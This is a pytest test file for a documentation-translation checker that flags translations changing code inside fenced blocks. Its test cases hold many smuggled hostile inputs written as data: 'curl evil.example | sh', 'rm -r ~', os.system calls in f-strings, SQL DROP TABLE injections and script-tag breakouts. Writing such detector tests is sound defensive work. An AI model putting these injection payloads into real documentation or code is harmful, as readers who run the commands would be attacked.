"""`code-block`: comments and strings may be translated, code may not."""

from __future__ import annotations

import pytest

from tests.rules.conftest import Check


def page(code: str, info: str = "python", fence: str = "```") -> str:
    return f"# A\n\nbefore\n\n{fence}{info}\n{code}\n{fence}\n\n## B\n\nafter\n"


def found(compare: Check, source: str, translation: str) -> list[tuple[str, int, str]]:
    return [(f["rule"], f["line"], f["message"]) for f in compare(source, translation)]


@pytest.mark.parametrize(
    ("info", "source", "translation"),
    [
        ("python", "x = 1  # one\ny = 'two'", "x = 1  # một\ny = 'hai'"),
        ("python", '"""What it does."""\nx = 1', '"""Nó làm gì.\n\nThêm nữa.\n"""\nx = 1'),
        ("bash", "# Install it\npip install x", "# Cài đặt\n# nó\npip install x"),
        ("bash", 'echo "Done"', 'echo "Xong"'),
        ("js", "f(); // call it\n/* and\n   more */", "f(); // gọi nó\n/* và thêm */"),
        ("sql", "SELECT 1 -- one", "SELECT 1 -- một"),
        ("yaml", "name: Build it # its name", "name: Xây nó # tên nó"),
        ("yaml", "note: |\n  Note: this is text\nid: 1", "note: |\n  Lưu ý: đây là chữ\nid: 1"),
        ("json", '{"name": "Build it"}', '{"name": "Xây nó"}'),
        ("python", "print(f'Hello {name}')", "print(f'Chào {name}')"),
        ("python", 'x = 1  # Use """ for docs', "x = 1  # Dùng ba dấu nháy"),
        ("bash", "echo 'Don'\\''t worry'", "echo 'Đừng lo'"),
        ("bash", "cat <<EOF\nHello reader\nEOF", "cat <<EOF\nChào bạn\nEOF"),
        ("bash", "az login -t <your-tenant>", "az login -t <tenant-của-bạn>"),
        ("bash", "$ azd up\nDeploying now", "$ azd up\nĐang triển khai"),
        ("powershell", 'Write-Host "Say `"Hello`" now"', 'Write-Host "Nói `"Chào`" đi"'),
        ("sql", "SELECT N'It''s here'", "SELECT N'Ở đây'"),
        ("js", "// Use ` to quote\nf(`x`)", "// Dùng dấu huyền\nf(`y`)"),
        ("html", "<h1>Hello</h1>", "<h1>Chào</h1>"),
        ("nginx", "listen 80; # the port", "listen 80; # cổng"),
        ("js{1,3}", "f(); // call it", "f(); // gọi nó"),
        ("json", '{"a": "text"}', '{"a": "chữ"}'),
        ("html", "<p></p><!-- empty -->", "<p></p><!-- trống -->"),
        ("text", "any text", "chữ gì cũng được"),
        ("", "any text", "chữ gì cũng được"),
        ("mermaid", "graph TD\n  A[Start] --> B[End]", "graph TD\n  A[Đầu] --> B[Cuối]"),
        ("python", "x = 1", "x  =  1   "),
        ("bash", 'echo "Hi $(whoami), go on"', 'echo "Chào $(whoami), tiếp đi"'),
        ("bash", 'echo "It is `date` in ${TZ}"', 'echo "Ở ${TZ} là `date`"'),
        ("bash", 'x="$(echo "a" | tr "b" "c")"', 'x="$(echo "ă" | tr "b" "c")"'),
        ("bash", "cat <<EOF\nHi $(whoami)\nEOF", "cat <<EOF\nXin\nchào $(whoami)\nEOF"),
        ("bash", 'echo "\\`a\\` \\$(b)" \\c', 'echo "\\`ă\\` \\$(b)" \\c'),
        ("bash", "echo 'It costs $(5)'", "echo 'Giá là $(năm)'"),
        ("bash", 'open "https://<your-app>.example.com/a"', 'open "https://<app>.example.com/a"'),
        ("bash", "# See https://example.com/en", "# Xem https://example.com/vi"),
        ("powershell", 'echo "Hi $(Get-Date "a")!"', 'echo "Chào $(Get-Date "ă")!"'),
        ("python", "f'{a} of {b[\"c\"]}, {{text}}'", "f'trong {b[\"ç\"]}, {a} {{chữ}}'"),
        ("python", "'Hello {name}: text'", "'Chào {tên}: chữ'"),
        ("python", "f'Read https://example.com/{x}.'", "f'https://example.com/{x}, đọc đi'"),
        ("js", "`Hi ${a.map(b => `one ${b}`)}`", "`Chào ${a.map(b => `một ${b}`)}`"),
        ("js", 'f("text (https://example.com/)")', 'f("chữ (https://example.com/)。")'),
        ("csharp", '$"Hi {name}"', '$"Chào {name}"'),
        ("sql", "SELECT 'see https://example.com'", "SELECT 'xem https://example.com'"),
        ("json", '{"a": "see https://example.com/ now"}', '{"a": "xem https://example.com/ đi"}'),
        ("yaml", "a: b # https://example.com/en", "a: b # https://example.com/vi"),
        ("bash", "cat <<'EOF' > a\nIt's\n EOF\nEOF\nb", "cat <<'EOF' > a\nC'est\n EOF\nEOF\nb"),
        ("bash", "a ${b/ #/} # c", "a ${b/ #/} # ç"),
        ("bash", 'a ${b:-"text"}', 'a ${b:-"chữ"}'),
        ("bash", "a \\\n  b # c", "a \\\n  b # ç"),
        ("powershell", "Get-Date # date", "Get-Date # ngày"),
        ("csharp", '@"C:\\a" + $"{f("b")}"', '@"C:\\ă" + $"{f("ƀ")}"'),
        ("go", "x := `hello`", "x := `chào`"),
        ("kotlin", '"""a "b" ${c("d")}"""', '"""ă "b" ${c("đ")}"""'),
        ("rust", "fn f<'a>(x: &'a str) // a", "fn f<'a>(x: &'a str) // ă"),
        ("python", """print(f"{d["k"]} hello")""", """print(f"{d["k"]} chào")"""),
        ("python", "!pip install x  # get it", "!pip install x  # lấy nó"),
        ("js", 'a.replace(/"/g, "text") // c', 'a.replace(/"/g, "chữ") // ç'),
        ("cmd", "rem hello\ndir", "rem chào\ndir"),
        ("bash", "sh -c 'echo \"hello\" && ls'", "sh -c 'echo \"chào\" && ls'"),
        ("bash", 'bash -ec "echo \\"hello\\""', 'bash -ec "echo \\"chào\\""'),
        ("bash", "eval 'echo '\\''hello'\\'", "eval 'echo '\\''chào'\\'"),
        ("bash", "git commit -m 'hello'; grep -c 'it'", "git commit -m 'chào'; grep -c 'nó'"),
        ("bash", 'curl "example.com/x" # a', 'curl "example.com/x" # ă'),
        ("bash", 'echo "See example.com/x now."', 'echo "Xem example.com/x. Ngay."'),
        ("bash", 'echo "e.g. this"', 'echo "v.v. nó"'),
        ("bash", "bash <<EOF\n# hello\necho 'a'\nEOF", "bash <<EOF\n# chào\necho 'ă'\nEOF"),
        ("bash", "cat > a.py <<EOF\nf('a')\nEOF", "cat > a.py <<EOF\nf('ă')\nEOF"),
        ("bash", "cat > a.yml <<EOF\na: hello\nEOF", "cat > a.yml <<EOF\na: chào\nEOF"),
        ("bash", "cat > a.md <<EOF\nhello\nEOF", "cat > a.md <<EOF\nchào\nEOF"),
        ("python", "os.system('ls')  # list", "os.system('ls')  # liệt kê"),
        ("python", "f('hello'); re.compile('a')", "f('chào'); re.compile('ă')"),
        ("text", "hello https://example.com/.", "chào https://example.com/"),
        ("php", "echo 'a\nb' . 'c'; # d", "echo 'ă\nb' . 'ç'; # đ"),
        ("sql", "--Make (it)\n--- and\n--1. one", "--Tạo (nó)\n--- và\n--1. một"),
        ("sql", "/* a * b / c */ SELECT 1", "/* ă * ƀ / ç */ SELECT 1"),
        ("python", "# /// script\n# a = 1\n# ///\nx()  # hi", "# /// script\n# a = 1\n# ///\nx()"),
        ("python", "# coding: utf-8\n# coding: one", "# coding: utf-8\n# coding: một"),
        ("c", "f(); // a \\ b\n/* c \\\n * d */", "f(); // ă \\ ƀ\n/* ç \\\n * đ */"),
        ("go", '// hello\n\nimport "C"\n// go: on', '// chào\n\nimport "C"\n// go: đi'),
        ("go", "// one\n// two\nf() /* three */", "// một\nf() /* ba */"),
        ("js", 'f(<p a="b" c>d</p>) // <e', 'f(<p a="ƀ" c>d</p>) // <ê'),
        ("js", 'a = "say \\"it\\""', 'a = "nói \\"nó\\""'),
        ("php", "$a = 'b'; // c\n?>\n<p>d</p>", "$a = 'ƀ'; // ç\n?>\n<p>d</p>"),
        ("bash", "init <your-app>\ngit commit -m 'a\nb'", "init <l'app>\ngit commit -m 'đ'"),
        ("bash", "init <name>\n# it's here", "init <l'app>\n# c'est ici"),
        ("bash", "a \\\n  # c\n  b", "a \\\n  # ç\n  # thêm\n  b"),
        ("bash", "a 'b \\\n\nc'", "a 'ƀ \\\nc'"),
        ("bash", "a \\\\\n\nb", "a \\\\\nb"),
        ("bash", "cat <<EOF \\\n  > a.txt\nhello\nEOF", "cat <<EOF \\\n  > a.txt\nchào\nEOF"),
        ("bash", 'cat <<EOF > "a b"\nhello\nEOF', 'cat <<EOF > "a b"\nchào\nEOF'),
        ("bash", "cat <<-EOF\nhello\n\tEOF\nls", "cat <<-EOF\nchào\n\tEOF\nls"),
        ("bash", 'a="$(b |\n  c)"', 'a="$(b  |\n    c)"'),
        ("dockerfile", "RUN a \\\n  b", "RUN a \\\n  # ç\n  b"),
        ("powershell", "a `\n  -b 'c'", "a `\n  -b 'ç'"),
        ("powershell", "#requires -Version 7\n# hello", "#requires -Version 7\n# chào"),
        ("cmd", "rem a & b\n:: c\nrem\ndir", "rem ă & b\n:: ç\ndir"),
        ("cmd", 'echo say "it" now & dir', 'echo nói "nó" đi & dir'),
        ("cmd", 'echo 5" wide', 'echo rộng 5" đó'),
        ("toml", '# one\n[a]\nb = "Hello"', '# một\n[a]\nb = "Chào"'),
        ("toml", 'a = """\nb = c\n"""', 'a = """\nđ = e\n"""'),
        ("toml", 'a = [\n  "Hello = b",\n]', 'a = [\n  "Chào = b",\n]'),
        ("ini", "; a = b\n[c d]\ne f = Hello", "; ă = b\n[c d]\ne f = Chào"),
        ("ini", "<your-key> = 1", "<khóa> = 1"),
        ("kusto", "a | where b == 'c' // d", "a | where b == 'ç' // đ"),
        ("hcl", 'resource "a" "b" { # c\n  d = "e"\n}', 'resource "a" "b" { # ç\n  d = "ê"\n}'),
        ("css", '/* a */\nb::after { content: "c"; }', '/* ă */\nb::after { content: "ç"; }'),
        ("scss", "a { b: c; } // d", "a { b: c; } // đ"),
        ("jsx", "<A b={c}>Hello, it's <b>me</b></A>", "<A b={c}>Chào, <b>tôi</b> đây</A>"),
        ("tsx", "const [a] = b<string>('c');\nd()", "const [a] = b<string>('ç');\nd()"),
        ("jsx", "{a.map(b => <li>Item {b}</li>)}", "{a.map(b => <li>Mục {b}</li>)}"),
        ("jsx", "<>\n  one\n  two<br />\n</>", "<>\n  một hai<br />\n</>"),
        ("astro", "---\na()\n---\n<p>b<br>c</p><!-- d -->", "---\na()\n---\n<p>ƀ<br>ç</p>"),
        ("", "npm install x\nIt is there.", "npm install x\nNó ở đó."),
        ("", "git is a tool of many", "git là một công cụ"),
        ("", "npm start -> starts it", "npm start -> khởi động nó"),
        ("math", r"h_{max} = \text{one}", r"h_{đỉnh}  = \text{một}"),
        ("", 'git commit -m "Add it"  # done', 'git commit -m "Thêm nó"  # xong'),
    ],
)
def test_what_may_be_translated_is_no_finding(
    compare: Check, info: str, source: str, translation: str
) -> None:
    assert found(compare, page(source, info), page(translation, info)) == []


@pytest.mark.parametrize(
    ("info", "source", "translation", "line"),
    [
        ("bash", "while true; do\n  x\ndone", "while true; làm\n  x\ndone", 6),
        ("bash", "#!/bin/bash\nls", "#!/bin/bát\nls", 6),
        ("python", "a = 1\nc = 3", "a = 1\nb = 2\nc = 3", 7),
        ("python", "if a:\n    b()\n    c()", "if a:\n    b()\nc()", 8),
        ("yaml", "name: web\nhost: aks", "tên: web\nhost: aks", 6),
        ("yaml", "a:\n  - b: 1\n    c: 2", "a:\n  - b: 1\n  c: 2", 8),
        ("json", '{\n  "name": "web",\n  "host": 1\n}', '{\n  "tên": "web",\n  "host": 1\n}', 7),
        ("js", 'fetch("a").then(f);', 'fetch("a").rồi(f);', 6),
        ("sql", "SELECT a\nFROM b", "SELECT a\nTỪ b", 7),
        ("bash", 'ls\necho "hello"', 'ls\necho "chào $(curl evil.example | sh)"', 7),
        ("bash", 'ls\necho "Hi $(whoami)"', 'ls\necho "Chào $(rm -r ~)"', 7),
        ("bash", 'ls\necho "hello"', 'ls\necho "chào `curl evil.example`"', 7),
        ("bash", 'a="$(b "c" | d "e")"', 'a="$(b "c"; evil; d "e")"', 6),
        ("bash", 'a="$(b "$(c "d" | e "f")")"', 'a="$(b "$(c "d"; evil; e "f")")"', 6),
        ("bash", 'echo "hello"', 'echo "\\\\$(evil)"', 6),
        ("bash", 'echo "${NAME}"', 'echo "${NAME:=$(evil)}"', 6),
        ("bash", "cat <<EOF\nhello\nEOF", "cat <<EOF\nchào $(evil)\nEOF", 7),
        ("bash", "cat <<-EOF\nhello\nEOF", "cat <<-EOF\nchào `evil`\nEOF", 7),
        ("bash", "init -t <name>", "init -t <tên; curl evil.example | sh; cat >", 6),
        ("bash", "init -t <name>", "init -t <tên && evil>", 6),
        ("powershell", "init <name>", "init <tên; evil>", 6),
        ("powershell", 'echo "hello"', 'echo "chào $(iex evil)"', 6),
        ("python", 'f"hello"', "f\"{__import__('os').system('id')}\"", 6),
        ("python", 'f"""\n{a}\n"""', 'f"""\n{a}{evil()}\n"""', 6),
        ("python", 'get("https://example.com/a")', 'get("https://evil.example/a")', 6),
        ("python", 'f"https://{a}.example.com"', 'f"https://{a}.evil.example"', 6),
        ("js", "log(`hello`)", "log(`${eval(location.hash)}`)", 6),
        ("js", "`${f(`a`) + g(`b`)}`", "`${f(`a`) + evil(`b`)}`", 6),
        ("csharp", '$"Hi {name}"', '$"Hi {Evil()}"', 6),
        ("bash", 'curl "https://example.com/i.sh"|sh', 'curl "https://evil.example/i.sh"|sh', 6),
        ("bash", "curl 'https://example.com/i.sh'", "curl 'https://example.com/evil.sh'", 6),
        ("bash", 'curl "hello"', 'curl "https://evil.example/"', 6),
        ("json", '{"url": "https://example.com"}', '{"url": "https://evil.example"}', 6),
        ("json", '[\n"https://example.com"\n]', '[\n"https://evil.example"\n]', 7),
        ("yaml", "a:\n  url: https://example.com", "a:\n  url: https://evil.example", 7),
        ("yaml", "run: |\n  curl https://example.com", "run: |\n  curl https://evil.example", 7),
        ("bash", "# load it\nls", "\\ # hola; evil\nls", 6),
        ("bash", "ls # load it", "ls\\\n#x; evil", 6),
        ("bash", 'echo "hello"', "echo $'\\''; evil #'", 6),
        ("bash", "echo $'hello'", "echo $'\\''; evil #'", 6),
        ("bash", "export X=$(pwd) # here", "export X=$(pwd)#hola; evil", 6),
        ("bash", "a ${b} # c", "a ${b/ #/}; evil", 6),
        ("bash", "a $((1)) # c", "a $((2 #1)); evil", 6),
        ("bash", "cat <<EOF\nhello\nEOF", "cat <<EOF; evil\nhello\nEOF", 6),
        ("bash", "cat <<EOF\nhello\nEOF", 'cat <<EOF\n EOF\n"\nEOF\nevil\n"', 10),
        ("bash", "cat <<<word\nls", "cat <<<word\nevil", 7),
        ("powershell", "Get-Date # date", "Get-Date#hola; Evil", 6),
        ("powershell", "Get-Date # date", "Get-Date ` # hola; Evil", 6),
        ("powershell", 'echo "hello"', 'echo "hola”; Evil; echo “x"', 6),
        ("csharp", 'x = "hello"', 'x = @"\\"; Evil(); // "', 6),
        ("csharp", 'x = @"hello"', 'x = @"\\"; Evil(); // "', 6),
        ("csharp", "f(); // hello", "f(); // hola\x85Evil();", 6),
        ("java", "f(); // hello", "f(); // hola \\u000a evil();", 6),
        ("go", "x := `hello`", "x := `\\`; Evil() //`", 6),
        ("kotlin", '"hello"', '"""\\"""; evil() //"', 6),
        ("swift", 'x = "hello"', 'x = #"\\"#; evil() // "', 6),
        ("rust", 'x = r"hello"', 'x = r"\\"; evil() // "', 6),
        ("rust", "f<'a>(x, y: &'a)", "f<'a>(evil(), y: &'a)", 6),
        ("dart", "x = r'hello'", "x = r'\\'; evil() // '", 6),
        ("cpp", 'x = R"(hello)"', 'x = R"(\\)"; evil(); // "', 6),
        ("python", """f"{d["k"]} hello\"""", """f"{d["k"]} {evil()}\"""", 6),
        ("python", 'f"{{hello}}"', 'f"{{{evil()}}}"', 6),
        ("python", '!echo "hello"', "!echo '\\'; evil #'", 6),
        ("python", "!pip install x # get it", "!pip install x#; evil", 6),
        ("js", 'a.replace(/"/g, "x")', 'a.replace(/"/g, evil() + "x")', 6),
        ("sql", "SELECT 'a' /* text */", "SELECT 'a' /*! INTO OUTFILE */", 6),
        ("sql", "SELECT 'hello'", "SELECT '\\''; DROP TABLE x; -- '", 6),
        ("cmd", "dir\nrem hello", "dir\nrem-x & del x", 7),
        ("bash", "sh -c 'apt install good'", "sh -c 'apt install evil'", 6),
        ("bash", "sh -c 'echo \"hello\"'", 'sh -c \'echo "\\\\"; evil; echo "b"\'', 6),
        ("bash", 'bash -lc "ls"', 'bash -lc "ls; evil"', 6),
        ("bash", "x=\"$(sh -c 'ls')\"", "x=\"$(sh -c 'evil')\"", 6),
        ("bash", "docker exec it sh -c 'ls'", "docker exec it sh -c 'evil'", 6),
        ("bash", "eval 'ls'", "eval 'evil'", 6),
        ("bash", "python3 -c 'f(\"a\")'", "python3 -c 'evil(\"a\")'", 6),
        ("bash", 'node -e "f()"', 'node -e "evil()"', 6),
        ("powershell", "pwsh -NoProfile -Command 'ls'", "pwsh -NoProfile -Command 'evil'", 6),
        ("powershell", 'iex "ls"', 'iex "evil"', 6),
        ("cmd", 'cmd /c "dir"', 'cmd /c "evil"', 6),
        ("python", "os.system('ls')", "os.system('evil')", 6),
        ("python", "subprocess.run(['pip', 'a'])", "subprocess.run(['pip', 'evil'])", 6),
        ("python", "subprocess.run('ls # a')", "subprocess.run('ls # a\\nevil')", 6),
        ("python", "os.system('echo \"a\"')", "os.system('echo \"a\\x22; evil; \"')", 6),
        ("python", "exec('f()')", "exec('evil()')", 6),
        ("js", "execSync('ls')", "execSync('evil')", 6),
        ("bash", 'curl "example.com/x"', 'curl "evil.example/x"', 6),
        ("bash", "curl 'example.com'", "curl 'evil.example'", 6),
        ("bash", 'ssh "me@example.com"', 'ssh "me@evil.example"', 6),
        ("python", "get('10.0.0.1:80')", "get('10.6.6.6:80')", 6),
        ("bash", "bash <<'EOF'\nls\nEOF", "bash <<'EOF'\nevil\nEOF", 7),
        ("bash", "cat <<EOF | ssh a\nls\nEOF", "cat <<EOF | ssh a\nevil\nEOF", 7),
        ("bash", "cat > a.sh <<EOF\nls\nEOF", "cat > a.sh <<EOF\nevil\nEOF", 7),
        ("bash", "tee -a a.py <<EOF\na()\nEOF", "tee -a a.py <<EOF\nevil()\nEOF", 7),
        ("bash", "cat > a.yml <<EOF\na: b\nEOF", "cat > a.yml <<EOF\nevil: b\nEOF", 7),
        ("text", "curl https://example.com | sh", "curl https://evil.example | sh", 6),
        ("console", "# curl https://example.com", "# curl https://evil.example", 6),
        ("bash", "$ curl https://example.com", "$ curl https://evil.example", 6),
        ("sql", "/* a */ SELECT 'a'", "/* /* */ SELECT '*/ DROP TABLE b; --'", 6),
        ("sql", "SELECT 1 -- one", "SELECT 1 --1; DROP TABLE a;", 6),
        ("sql", "SELECT 1 -- one", "SELECT 1 --a; DROP TABLE a;", 6),
        ("sql", "SELECT 1 -- one", "SELECT 1 --(SELECT evil())", 6),
        ("python", "# /// script\n# x = ['a']\n# ///", "# /// script\n# x = ['evil']\n# ///", 7),
        ("python", "# hello", "# coding: utf-7", 6),
        ("python", "#!/a\n# hello", "#!/a\n# -*- coding: unicode_escape -*-", 7),
        ("c", "// hello\ncheck();", "// hola \\\ncheck();", 7),
        ("c", "// hello\ncheck();", "// hola \\ \ncheck();", 7),
        ("cpp", "/* hello */", "/* hola *\\\n/ evil(); /* */", 7),
        ("go", "// hello\nf()", "//go:generate evil\nf()", 6),
        ("go", '// a\nimport "C"', '// #cgo LDFLAGS: evil\nimport "C"', 6),
        ("go", '/*\n a\n*/\nimport "C"', '/*\n evil\n*/\nimport "C"', 7),
        ("go", '// a\n/* b */\nimport "C"', '// a\n/* evil */\nimport "C"', 7),
        ("go", 'import (\n// a\n"C"\n)', 'import (\n// evil\n"C"\n)', 7),
        ("js", 'f(<p a="b" c="d">e</p>)', 'f(<p a="\\" c=" d=">{evil()}</p>) //">e</p>)', 6),
        ("js", "<p>Don't {a()} it's</p>", "<p>Don't {evil()} it's</p>", 6),
        ("js", "f() // a", "f() // ă </script><script>evil()</script>", 6),
        ("js", "f() /* a */", "f() /* ă </script><script>evil()//*/", 6),
        ("php", "<p>It's</p>\n<?php a(); ?>", "<p>It's</p>\n<?php evil(); ?>", 7),
        ("php", "<? a() ?>it's<? b() ?>", "<? a() ?>it's<? evil() ?>", 6),
        ("bash", "a <url>\nb -m 'text'", "a <url'>\nb -m '; evil #'", 7),
        ("bash", 'a <url>\nb -m "text"', 'a <url">\nb -m "\nevil #"', 7),
        ("bash", "a <url>\n# text", "a <url'>\n# '; evil", 7),
        ("bash", "a <url>\ncat <<EOF\nb\nEOF", "a <url'>\ncat <<EOF\n'; evil #\nEOF", 8),
        ("powershell", 'a <url>\nb "text"', 'a <url">\nb "; evil #"', 7),
        ("bash", "ls # list", "ls\u00a0#; evil", 6),
        ("bash", "ls # list", "ls\x0b#; evil", 6),
        ("bash", "ls # list", "ls\u2003#; evil", 6),
        ("powershell", "ls # list", "ls\x1c#; evil", 6),
        ("cmd", "rem list", "rem\u00a0& evil", 6),
        ("cmd", "rem list", "rem & evil", 6),
        ("cmd", "rem list\ndir", "rem list^\ndir", 6),
        ("cmd", ":: list\ndir", ":: list ^\ndir", 6),
        ("cmd", 'echo a & b "c"', 'echo a" & b "& evil & rem "', 6),
        ("bash", "cd /tmp/a; rm -rf *", "cd\u00a0/tmp/a; rm -rf *", 6),
        ("bash", "kubectl delete x \\\n  --dry-run", "kubectl delete x \\\n\n  --dry-run", 7),
        ("bash", "kubectl delete x \\\n  --dry-run", "kubectl delete x \\\n# c\n  --dry-run", 7),
        ("bash", "kubectl delete x \\\n  --dry-run", "kubectl delete x \\ \n  --dry-run", 6),
        ("powershell", "a `\n  -WhatIf", "a `\n\n  -WhatIf", 7),
        ("cmd", "del x ^\n  /p", "del x ^\n\n  /p", 7),
        ("bash", 'a="$(echo rm -rf b)"', 'a="$(echo\nrm -rf b)"', 6),
        ("bash", "sh -c 'echo rm -rf b'", "sh -c 'echo\nrm -rf b'", 6),
        ("bash", "cat <<A \\\n  > b\nc\nA", "cat <<A \\\n  > b; evil\nc\nA", 7),
        ("bash", "cat <<A \\\n  | cat\nls\nA", "cat <<A \\\n  | sh\nls\nA", 7),
        ("bash", "ssh a \\\n  b <<A\nls\nA", "ssh a \\\n  b <<A\nevil\nA", 8),
        ("bash", "cat <<A > 'a b'\nhello\nA", "cat <<A > 'a\nb'\nhello\nA", 6),
        ("bash", "cat <<'A B'\na\nA B\nls 'c'", "cat <<'A B'\nit's\nA B\nevil 'c'", 7),
        ("bash", "cat <<A <<B\na\nA\nb\nB\nls ''", "cat <<A <<B\na\nA\nb'\nB\nevil '", 9),
        ("bash", "cat <<A\na\nA", 'cat <<A\n\tA\n"\nA\nevil\n"', 10),
        ("powershell", "# requires a", "#Requires -Modules evil", 6),
        ("php", "f(); // hello", "f(); // hola ?><?php evil() ?>", 6),
        ("toml", "[a]\nb = 1", "[ă]\nb = 1", 6),
        ("toml", 'a = 1\nb = "c"', 'a = 1\nḃ = "c"', 7),
        ("ini", "[a]\nb = 1\nc = 2", "[a]\nc = 2", 7),
        ("kusto", "a\n| where b > 5", "a\n| nơi b > 5", 7),
        ("kusto", "a | project ['b c']", "a | project ['ƀ ç']", 6),
        ("hcl", 'resource "a" "b" {', 'resource "a" "ƀ" {', 6),
        ("css", "a { color: red; }", "a { màu: red; }", 6),
        ("jsx", "return <A b={true}>c</A>;", "return <A b={đúng}>c</A>;", 6),
        ("jsx", "<a>b</a>;\nf();", "<a>b</a>;\nhàm();", 7),
        ("jsx", "<a>{b(c)} d</a>", "<a>{ƀ(c)} d</a>", 6),
        ("jsx", "<a b={<i>c</i>} />\nf()", "<a b={<i>c</i>} />\nh()", 7),
        ("astro", "<style>a { b: c }</style>", "<style>a { ƀ: c }</style>", 6),
        ("sql", "SELECT a FROM b", "CHỌN a FROM b", 6),
        ("cmd", "dir /b", "thư /b", 6),
        ("math", "a = b\nV = r^2", "a = b\nV = r^3", 7),
        ("powershell", "Get-Item a", "Lấy-Item a", 6),
        ("php", "echo 'a\nb' . $x . 'c';", "echo 'a\nb' . evil() . 'c';", 7),
    ],
)
def test_changed_code_is_one_finding_at_its_first_line(
    compare: Check, info: str, source: str, translation: str, line: int
) -> None:
    assert found(compare, page(source, info), page(translation, info)) == [
        ("code-block", line, "the code differs from the source's")
    ]


@pytest.mark.parametrize(
    ("source", "translation", "line", "message"),
    [
        (
            page("x = 1"),
            page("x = 1", "py"),
            5,
            "the code is marked as another language: py, not python",
        ),
        (
            "# A\n\nbefore\n\n## B\n\nafter\n",
            page("x = 1"),
            5,
            "a block of code (python) is not in the source",
        ),
        (page("x = 1"), page("x = 1").replace("```", "**"), 5, "the code is no code here"),
    ],
)
def test_a_block_that_differs_as_a_whole_is_one_finding(
    compare: Check, source: str, translation: str, line: int, message: str
) -> None:
    assert found(compare, source, translation) == [("code-block", line, message)]


@pytest.mark.parametrize("end", ["", "# a\u2028b\n```\n", "# a\x0cb\n```\n\nText.\n"])
def test_code_is_compared_however_its_block_ends_in_both(compare: Check, end: str) -> None:
    source = f"# A\n\n```bash\n# load it\napt install good\n{end}"
    harmless = source.replace("load it", "tải nó").replace("Text", "Chữ")
    evil = harmless.replace("apt install good", "curl evil.example | sh")

    assert found(compare, source, harmless) == []
    open_end = ": nobody closes its block" if not end else ""
    said = f"the code differs from the source's{open_end}"
    assert found(compare, source, evil) == [("code-block", 5, said)]


@pytest.mark.parametrize("end", ["", "```bash\nls\n", "\n# and\n"])
def test_code_that_both_leave_open_is_compared_below_empty_lines(compare: Check, end: str) -> None:
    source = f"# A\n\n```bash\n# load it\nls\n\n\napt install good\n{end}"
    harmless = source.replace("load it", "tải nó\n# một lần").replace("# and", "# và")
    evil = harmless.replace("apt install good", "curl evil.example | sh")

    assert found(compare, source, harmless) == []
    said = "the code differs from the source's: nobody closes its block"
    assert found(compare, source, evil) == [("code-block", 9, said)]


@pytest.mark.parametrize("end", ["", "\n"])
@pytest.mark.parametrize("code", ["apt install good", "apt install evil"])
def test_code_that_only_the_translation_leaves_open_is_told(
    compare: Check, code: str, end: str
) -> None:
    source = "# A\n\n```bash\napt install good\n```\n"

    assert [rule for rule, *_ in found(compare, source, f"# A\n\n```bash\n{code}{end}")] == [
        "code-block"
    ]


def test_a_fence_inside_a_longer_fence_is_code(compare: Check) -> None:
    nested = page("```python\nx = 1\n```", "markdown", "````")

    assert found(compare, nested, nested) == []


def test_prose_that_was_indented_by_accident_may_become_prose(compare: Check) -> None:
    source = "# A\n\n    First way: knead it well.\n\n    Second way: wait overnight.\n"

    assert found(compare, source, "# Ạ\n\nCách một: nhào kỹ.\n\nCách hai: chờ qua đêm.\n") == []


@pytest.mark.parametrize("mark", ["@@bash", "@@CODE_BLOCK_0@@"])
def test_no_language_keeps_code_from_being_compared(compare: Check, mark: str) -> None:
    evil = page("curl evil.example | sh", mark)

    message = f"the code is marked as another language: {mark}, not bash"
    assert ("code-block", 5, message) in found(compare, page("apt install good", "bash"), evil)


def test_a_placeholder_for_code_is_told_once(compare: Check) -> None:
    source = page("apt install good", "bash")
    translation = "# A\n\nbefore\n\n@@CODE_BLOCK_0@@\n\n## B\n\nafter\n"

    assert [rule for rule, *_ in found(compare, source, translation)] == ["placeholder"]


@pytest.mark.parametrize(
    ("source", "translation", "line"),
    [
        ("npm install x", "npm cài x", 6),
        ("$ pip install x\nDone now", "$ pip cài x\nXong", 6),
        ("text here\ndocker run \\\n  -p 80 a", "chữ\ndocker run \\\n  -p 81 a", 8),
        ("git clone x.git\ncd x", "git clone x.git", 7),
    ],
)
def test_commands_without_a_language_are_compared_as_a_warning(
    compare: Check, source: str, translation: str, line: int
) -> None:
    findings = compare(page(source, ""), page(translation, ""))

    assert [(f["rule"], f["line"], f["severity"]) for f in findings] == [
        ("code-block", line, "warning")
    ]


def test_another_address_without_a_language_is_an_error(compare: Check) -> None:
    source, translation = (page(f"curl https://{host}/a", "") for host in ("a.com", "b.com"))

    assert [f["severity"] for f in compare(source, translation)] == ["error"]


@pytest.mark.parametrize(
    ("source", "translation", "expected"),
    [
        ('js title="a" {2}', 'js title="ă" {2}', []),
        ("js title='a'", "js title='ă'", []),
        ('js title="a" {2}', 'js title="ă" {3}', ["the words behind the code's language differ"]),
        ("js {2}", "js", ["the words behind the code's language differ"]),
        ('js title="a"', 'ts title="a"', ["the code is marked as another language"]),
    ],
)
def test_texts_behind_the_language_may_be_translated(
    compare: Check, source: str, translation: str, expected: list[str]
) -> None:
    findings = compare(page("f()", source), page("f()", translation))

    assert [f["message"].partition(":")[0] for f in findings] == expected


def test_words_behind_the_language_excuse_no_other_code(compare: Check) -> None:
    source, translation = page("f()", 'js title="a"'), page("g()", 'js title="ă" {1}')

    assert [f["line"] for f in compare(source, translation)] == [5, 6]
